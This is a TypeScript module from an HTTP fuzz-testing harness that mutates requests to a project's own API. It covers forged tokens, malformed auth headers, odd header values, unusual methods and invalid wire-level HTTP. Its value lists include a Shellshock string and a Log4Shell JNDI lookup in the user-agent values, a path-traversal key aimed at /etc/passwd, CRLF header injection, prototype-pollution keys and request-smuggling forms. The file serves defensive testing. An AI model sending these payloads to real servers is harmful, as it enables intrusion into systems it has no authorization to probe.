import { createHash } from 'node:crypto';
import type { Chance } from './chance.ts';
import type { DescribedOperation } from './description.ts';
import { withMutation, target, withHeader, type Draft } from './draft.ts';
import { hostileText } from './hostile-values.ts';

const base64 = (value: unknown): string =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
const signed = `${base64({ alg: 'HS256' })}.${base64({ iss: 'buurtkring' })}.${base64('x'.repeat(32))}`;

/** A token that was never issued; it may be made from a valid one. */
export function hostileToken(chance: Chance, good = 'abcdefghijklmnopqrstuvwxyz'): string {
  return chance.pick([
    good.slice(0, -1),
    good.slice(0, good.length / 2),
    `${good}a`,
    `${good}${good}`,
    `${good}=`,
    `${good}.`,
    good.toUpperCase(),
    good.split('').toReversed().join(''),
    good.replace(/^./, '0'),
    good.replace(/^./, 'é'),
    encodeURIComponent(`${good}#`),
    signed,
    createHash('sha256').update(good).digest('hex'),
    `TOKEN#langstraat#${good}`,
    'null',
    'undefined',
    '...',
    'a'.repeat(4000),
    base64(hostileText(chance)).slice(0, 6000),
  ]);
}

const authorizations = (token: string): string[] => [
  'Bearer',
  'Bearer ',
  `bearer\t${token}`,
  `Basic ${base64('a:b')}`,
  `Bearer ${token} ${token}`,
  `Bearer ${token},Bearer ${token}`,
  token,
  `Bearer ${'a'.repeat(9000)}`,
  `Bearer ${' '.repeat(5000)}x`,
  'Digest x',
];
const keys = [
  '',
  ' ',
  'kort',
  'a'.repeat(15),
  'a'.repeat(101),
  'a'.repeat(9000),
  'sleutel met spaties erin',
  'a'.repeat(16) + '\u00e9',
  '../../../../etc/passwd',
  '__proto__',
  'REQUEST#0123456789abcdef',
  'a'.repeat(20) + '\n',
];
const others: readonly (readonly [string, readonly string[]])[] = [
  [
    'if-none-match',
    ['*', 'W/""', '"'.repeat(5000), ','.repeat(9000), '"a", '.repeat(1500), 'W/'.repeat(3000)],
  ],
  ['accept', ['*/*', 'text/html', 'application/geo+json;q=0', ','.repeat(5000), 'a/'.repeat(4000)]],
  ['accept-encoding', ['br', 'gzip', 'identity;q=0', '*', 'gzip,'.repeat(1500)]],
  [
    'x-forwarded-for',
    [
      '',
      ',,,',
      '::1',
      '::',
      'fe80::%25eth0',
      'x'.repeat(5000),
      '1.2.3.4, '.repeat(900),
      ':'.repeat(3000),
      '127.0.0.1',
      '<fz-b>',
    ],
  ],
  ['x-origin-verify', ['', 'geraden', 'a'.repeat(4000)]],
  ['x-http-method-override', ['DELETE', 'PUT']],
  ['forwarded', ['for=127.0.0.1;host=other.example']],
  ['x-forwarded-host', ['other.example']],
  ['host', ['other.example', 'localhost:1', '', 'a'.repeat(3000), '<fz-b>']],
  ['origin', ['null', 'https://other.example']],
  ['access-control-request-method', ['DELETE']],
  ['cookie', ['a=b', ';'.repeat(5000), '__proto__=1; constructor=2', 'a='.repeat(3000)]],
  ['range', ['bytes=0-', `bytes=${'0-1,'.repeat(1500)}`]],
  ['expect', ['100-continue']],
  ['user-agent', ['', '() { :;}; echo x', 'a'.repeat(6000), '${jndi:ldap://fuzz.example/a}']],
  ['content-type', ['application/json\u0000', 'application/json\rX-A: 1']],
  ['__proto__', ['x']],
  ['constructor', ['x']],
];

export function mutatedHeaders(
  chance: Chance,
  draft: Draft,
  { parameters, secured }: DescribedOperation,
  token: string | undefined,
): Draft {
  const set = (name: string, value: string | undefined): Draft =>
    withMutation(draft, `header ${name}`, { headers: withHeader(draft, name, value) });
  const keyed = parameters.some(({ name }) => name === 'Idempotency-Key');
  return chance.oneOf(
    [2, () => listed()],
    [1, () => set(chance.pick(anyText), hostileText(chance).slice(0, 3000))],
    [1, () => many(chance.pick([50, 150, 1900]))],
    [1, () => twice(chance.pick(draft.headers))],
    [secured ? 3 : 0, () => set('authorization', `Bearer ${hostileToken(chance, token)}`)],
    [
      secured ? 1 : 0,
      () =>
        set('authorization', chance.pick([...authorizations(token ?? 'a'.repeat(26)), undefined])),
    ],
    [keyed ? 2 : 0, () => set('idempotency-key', chance.pick([...keys, undefined]))],
  );

  function listed(): Draft {
    const [name, values] = chance.pick(others);
    return set(name, chance.pick(values));
  }

  function many(count: number): Draft {
    return withMutation(draft, `${count} headers`, {
      headers: [
        ...draft.headers,
        ...Array.from({ length: count }, (_, index) => [`x-${index}`, 'a'] as const),
      ],
    });
  }

  function twice([name, value]: Draft['headers'][number]): Draft {
    return withMutation(draft, `${name} twice`, {
      headers: [...draft.headers, [name, `${value}x`]],
    });
  }
}

const anyText = [
  'x-note',
  'user-agent',
  'idempotency-key',
  'authorization',
  'if-none-match',
  'accept',
  'x-forwarded-for',
];
const methods = [
  'GET',
  'HEAD',
  'POST',
  'PUT',
  'PATCH',
  'DELETE',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
  'LINK',
  'PURGE',
  'SEARCH',
  'get',
  'FOO',
  'POST\u0000',
];

export function mutatedMethod(chance: Chance, draft: Draft): Draft {
  const method = chance.pick(methods);
  return withMutation(draft, `method ${method}`, { method });
}

/** A request that is not valid HTTP; the server, like CloudFront, refuses it before it reaches our code. */
export function mutatedWire(chance: Chance, draft: Draft): Draft {
  const line = `${draft.method} ${target(draft)} HTTP/1.1`;
  const forms: readonly (readonly [string, string])[] = [
    ['no host', `${line}\r\n\r\n`],
    ['bare line feeds', `${line}\nHost: x\n\n`],
    ['HTTP/0.9', `${draft.method} ${target(draft)}\r\n\r\n`],
    ['HTTP/3.7', `${line.replace('1.1', '3.7')}\r\nHost: x\r\n\r\n`],
    ['HTTP/2 preface', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
    ['two lengths', `${line}\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab`],
    [
      'length and chunks',
      `${line}\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
    ],
    ['negative length', `${line}\r\nHost: x\r\nContent-Length: -1\r\n\r\n`],
    ['a length in words', `${line}\r\nHost: x\r\nContent-Length: veel\r\n\r\n`],
    [
      'broken chunk',
      `${line}\r\nHost: x\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n`,
    ],
    ['space before the colon', `${line}\r\nHost : x\r\n\r\n`],
    ['folded header', `${line}\r\nHost: x\r\nX-A: b\r\n c\r\n\r\n`],
    ['null in a header', `${line}\r\nHost: x\r\nX-A: b\u0000c\r\n\r\n`],
    ['TLS hello', '\u0016\u0003\u0001\u0000\u0005hello\r\n\r\n'],
  ];
  const [what, text] = chance.pick(forms);
  return withMutation(draft, `wire: ${what}`, {
    wire: Buffer.from(text, 'latin1'),
    headers: [],
    body: undefined,
  });
}
